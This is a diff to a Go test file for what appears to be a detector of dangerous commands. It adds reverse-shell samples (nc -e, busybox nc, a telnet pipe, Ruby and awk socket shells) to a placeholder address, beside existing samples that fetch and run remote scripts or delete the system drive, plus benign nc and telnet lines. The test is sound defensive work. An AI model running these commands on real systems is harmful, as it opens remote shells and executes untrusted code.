@@ -123,6 +123,12 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		"regsvr32 /s /n /u /i:http://example.test/a.sct scrobj.dll":                                              RuleCodePowerShell,
 		"$s = (iwr http://example.test/a.ps1).Content; iex $s":                                                   RuleCodePowerShell,
 		"Remove-Item -Path $env:SystemDrive\\ -Recurse -Force":                                                   RuleCodeRmRoot,
+		// Reverse shells
+		"nc 203.0.113.9 4444 -e /bin/bash":                            RuleCodeReverseShell,
+		"busybox nc 203.0.113.9 4444 -e sh":                           RuleCodeReverseShell,
+		"telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445": RuleCodeReverseShell,
+		`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`: RuleCodeReverseShell,
+		`awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(42) { s |& getline c; print c |& s; close(c) }}'`:        RuleCodeReverseShell,
 		// Dockerfile, package.json, shell
 		`RUN ["sh", "-c", "curl -fsSL https://example.test/i.sh | sh"]`:                                                  RuleCodePipeShell,
 		"RUN apt-get update && \\\n    curl -fsSL https://example.test/i.sh | bash && \\\n    rm -rf /var/lib/apt/lists": RuleCodePipeShell,
@@ -160,6 +166,9 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		`{"scripts":{"build":"tsc -p .","test":"node --test"}}`,
 		"curl -fsSL -o /tmp/data.json https://example.test/d.json && jq . /tmp/data.json",
 		"Remove-Item -Recurse -Force .\\build",
+		"nc -z db.internal 5432",
+		"ncat --ssl example.test 443 < request.txt",
+		"telnet example.test 25",
 	}
 	for _, in := range good {
 		if f := CheckCode(in); len(f) > 0 {
